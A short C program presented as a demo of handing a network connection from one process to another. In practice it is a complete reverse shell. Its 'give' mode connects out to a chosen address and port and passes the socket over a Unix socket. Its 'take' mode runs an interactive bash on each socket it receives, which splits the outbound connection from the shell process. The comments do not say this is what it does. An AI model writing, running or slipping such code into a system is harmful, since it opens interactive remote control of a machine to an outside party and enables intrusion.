/*
 * A connection that changes hands: one process makes it, another one uses it.
 *
 *   passed_shell take SOCKET               a service: a shell on every descriptor that it is given
 *   passed_shell give SOCKET ADDRESS PORT  connects, and gives the connection away
 */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

static void fail(const char *what)
{
	perror(what);
	exit(1);
}

static int unix_socket(const char *path, struct sockaddr_un *at)
{
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	memset(at, 0, sizeof(*at));
	at->sun_family = AF_UNIX;
	strncpy(at->sun_path, path, sizeof(at->sun_path) - 1);
	if (fd < 0)
		fail("socket");
	return fd;
}

static int receive(int from)
{
	char byte, room[CMSG_SPACE(sizeof(int))];
	struct iovec part = {&byte, 1};
	struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1,
		.msg_control = room, .msg_controllen = sizeof(room)};
	int fd = -1;

	if (recvmsg(from, &message, 0) == 1 && CMSG_FIRSTHDR(&message))
		memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof(fd));
	return fd;
}

static void take(const char *path)
{
	struct sockaddr_un at;
	int listener = unix_socket(path, &at);

	unlink(path);
	if (bind(listener, (struct sockaddr *)&at, sizeof(at)) || listen(listener, 8))
		fail("listen");
	printf("ready\n");
	fflush(stdout);
	for (;;) {
		int giver = accept(listener, NULL, NULL), fd = giver < 0 ? -1 : receive(giver);

		if (fd >= 0 && fork() == 0) {
			dup2(fd, 0);
			dup2(fd, 1);
			dup2(fd, 2);
			execl("/bin/bash", "bash", "-i", NULL);
			_exit(1);
		}
		close(fd);
		close(giver);
	}
}

static void give(const char *path, const char *address, int port)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
	struct sockaddr_un at;
	char byte = 0, room[CMSG_SPACE(sizeof(int))] = {0};
	struct iovec part = {&byte, 1};
	struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1,
		.msg_control = room, .msg_controllen = sizeof(room)};
	struct cmsghdr *header = CMSG_FIRSTHDR(&message);
	int connection = socket(AF_INET, SOCK_STREAM, 0), taker = unix_socket(path, &at);

	inet_pton(AF_INET, address, &to.sin_addr);
	if (connect(connection, (struct sockaddr *)&to, sizeof(to)) ||
	    connect(taker, (struct sockaddr *)&at, sizeof(at)))
		fail("connect");
	header->cmsg_level = SOL_SOCKET;
	header->cmsg_type = SCM_RIGHTS;
	header->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(header), &connection, sizeof(connection));
	if (sendmsg(taker, &message, 0) != 1)
		fail("sendmsg");
}

int main(int count, char **words)
{
	if (count == 3 && strcmp(words[1], "take") == 0)
		take(words[2]);
	else if (count == 5 && strcmp(words[1], "give") == 0)
		give(words[2], words[3], atoi(words[4]));
	else
		return 2;
	return 0;
}
